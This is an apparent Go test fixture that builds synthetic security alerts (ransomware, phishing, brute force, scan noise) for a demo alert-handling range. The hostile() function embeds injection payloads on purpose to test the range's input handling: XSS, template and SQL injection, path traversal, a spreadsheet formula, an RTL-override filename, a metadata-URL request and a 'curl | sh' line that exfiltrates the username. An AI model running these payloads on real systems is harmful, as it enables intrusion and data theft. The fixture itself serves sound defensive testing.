package demo

import (
	"fmt"
	"strconv"
	"time"
)

// detection is one sample alert, told by the product that found it.
type detection struct {
	ID     string // names the delivery; a repeat adds its number
	Source string
	After  time.Duration // the wave's start
	Times  int           // how often it is sent, at least once
	Every  time.Duration // between repeats
	body   func(at time.Time) map[string]any
}

// sick are the hosts that fall ill, one after the other.
//
//nolint:gochecknoglobals // a constant table
var sick = []struct{ host, user, ip string }{
	{"FIN-LT-0231", "m.keller", "10.20.2.41"},
	{"HR-LT-0112", "a.soto", "10.20.1.22"},
	{"ENG-WS-0417", "j.osei", "10.20.4.27"},
}

// detections gives a wave. The first is everything at once; a later one (the
// next day) is one new illness and the noise. isolated hosts do not fall ill.
func detections(wave int, isolated func(host string) bool) []detection {
	var ds []detection
	after := time.Duration(0)
	for i, s := range sick {
		if isolated(s.host) {
			continue
		}
		ds = append(ds, malware(fmt.Sprintf("edr-%d-%d", wave, i+1), s.host, s.user, s.ip, after))
		after += 25 * time.Minute
	}
	ds = append(ds, noise(wave))
	if wave == 1 {
		ds = append(ds, phishing(), bruteForce(), hostile(), enrolled())
	}
	return ds
}

func malware(id, host, user, ip string, after time.Duration) detection {
	return detection{ID: id, Source: "range-edr", After: after, body: func(at time.Time) map[string]any {
		return map[string]any{
			"source_id": id, "title": "Loader deletes shadow copies on " + host, "category": "malware", "severity": "critical", "confidence": 92,
			"description": "update-helper.exe, started by Word, deletes shadow copies and calls out every minute. Blackcask.loader does this before it encrypts.",
			"url":         "https://edr.range.test/detections/" + id,
			"first_seen":  at.Add(-90 * time.Second).Format(time.RFC3339), "last_seen": at.Format(time.RFC3339),
			"hosts":     []any{map[string]any{"name": host, "ip": ip, "os": "Windows 11", "id": ""}},
			"users":     []any{map[string]any{"name": user, "domain": "EXAMPLE", "mail": user + "@example.test"}},
			"files":     []any{map[string]any{"name": "update-helper.exe", "path": `C:\Users\` + user + `\AppData\Local\Temp\update-helper.exe`, "size": 482_304, "sha256": shaMalware}},
			"processes": []any{map[string]any{"name": "update-helper.exe", "pid": 6644, "parent": "winword.exe", "command_line": "update-helper.exe /quiet & vssadmin delete shadows /all"}},
			"domains":   []any{"cdn.exаmple-invoices.test"}, "ips": []any{"198.51.100.61"},
			"attack": []any{"T1486", "T1490"}, "labels": []any{"edr", "ransomware"},
		}
	}}
}

func phishing() detection {
	return detection{ID: "mail-1", Source: "range-mail", body: func(at time.Time) map[string]any {
		return map[string]any{
			"source_id": "report-2209", "title": `Reported: "Invoice 4471 is overdue <b>ACT NOW</b>"`, "category": "phishing", "severity": "high", "confidence": 70,
			"description": "Reported by m.keller with the button. The sender's domain looks like a supplier's, one letter is Cyrillic.",
			"first_seen":  at.Add(-4 * time.Minute).Format(time.RFC3339),
			"users":       []any{map[string]any{"name": "m.keller", "domain": "EXAMPLE", "mail": "m.keller@example.test"}},
			"mails":       []any{map[string]any{"from": phishSender, "to": []any{"m.keller@example.test"}, "subject": "Invoice 4471 is overdue <b>ACT NOW</b>", "message_id": "msg-7001"}},
			"urls":        []any{phishURL}, "domains": []any{"login.exаmple-invoices.test"},
			"attack": []any{"T1566.002"}, "labels": []any{"reported"},
		}
	}}
}

func finding(id, rule, category string, level int, at time.Time, more map[string]any) map[string]any {
	f := map[string]any{
		"id": id, "rule": map[string]any{"name": rule, "category": category, "level": level, "techniques": more["techniques"]},
		"summary": more["summary"], "started": at.Format(time.RFC3339), "link": "https://siem.range.test/findings/" + id,
		"hosts": more["hosts"], "accounts": more["accounts"], "addresses": more["addresses"],
	}
	return map[string]any{"findings": []any{f}}
}

func bruteForce() detection {
	return detection{ID: "siem-1", Source: "range-siem", body: func(at time.Time) map[string]any {
		return finding("f-88121", "Many failed VPN log-ins, then a good one", "brute_force", 3, at.Add(-9*time.Minute), map[string]any{
			"summary": "23 failures and one success for svc_backup from " + bruteIP + " in 8 minutes.", "techniques": []any{"T1110.001"},
			"hosts": []any{"SRV-WEB-03"}, "accounts": []any{"svc_backup"}, "addresses": []any{bruteIP},
		})
	}}
}

// noise is what comes every day, several times, and matters to nobody.
func noise(wave int) detection {
	id := fmt.Sprintf("siem-scan-%d", wave)
	return detection{ID: id, Source: "range-siem", Times: 8, Every: 7 * time.Minute, body: func(at time.Time) map[string]any {
		return finding("f-scan-"+strconv.Itoa(wave), "Port scan from the internet", "reconnaissance", 1, at, map[string]any{
			"summary": "1 024 ports in 40 seconds; all were closed.", "techniques": []any{"T1046"},
			"hosts": []any{"SRV-WEB-03"}, "accounts": []any{}, "addresses": []any{"192.0.2.140"},
		})
	}}
}

// hostile is written by somebody who hopes that the reader runs what it reads:
// markup, template braces, a path, a formula, a direction mark, control bytes.
func hostile() detection {
	return detection{ID: "edr-hostile", Source: "range-edr", body: func(at time.Time) map[string]any {
		return map[string]any{
			"source_id": "edr-5120", "category": "suspicious_activity", "severity": "medium", "confidence": 40,
			"title":       `<img src=x onerror=alert(1)> ${{ inputs.host }} {{7*7}} $(id)`,
			"description": "=HYPERLINK(\"http://192.0.2.9/\",\"click\") '; DROP TABLE alerts; -- ../../etc/passwd \u001b[31mred\u001b[0m",
			"first_seen":  at.Add(-12 * time.Minute).Format(time.RFC3339),
			"hosts":       []any{map[string]any{"name": "SALES-LT-0318", "ip": "10.20.3.28", "os": "macOS 16", "id": "../../hosts/SRV-DC-01"}},
			"users":       []any{map[string]any{"name": "r.lindqvist\u202etxt.exe", "domain": "EXAMPLE", "mail": "r.lindqvist@example.test"}},
			"processes":   []any{map[string]any{"name": "<script>alert(document.domain)</script>", "pid": 991, "parent": "Terminal", "command_line": "curl -s http://192.0.2.9/$(whoami) | sh"}},
			"urls":        []any{"javascript:alert(1)", "http://169.254.169.254/latest/meta-data/"},
			"labels":      []any{"edr", "{{constructor.constructor('return 1')()}}"},
		}
	}}
}

func enrolled() detection {
	return detection{ID: "edr-enrolled", Source: "range-edr", body: func(at time.Time) map[string]any {
		return map[string]any{
			"source_id": "edr-5093", "title": "A new device was enrolled", "category": "inventory", "severity": "informational", "confidence": 100,
			"first_seen": at.Format(time.RFC3339),
			"hosts":      []any{map[string]any{"name": "SALES-LT-0318", "ip": "10.20.3.28", "os": "macOS 16"}}, "labels": []any{"edr"},
		}
	}}
}
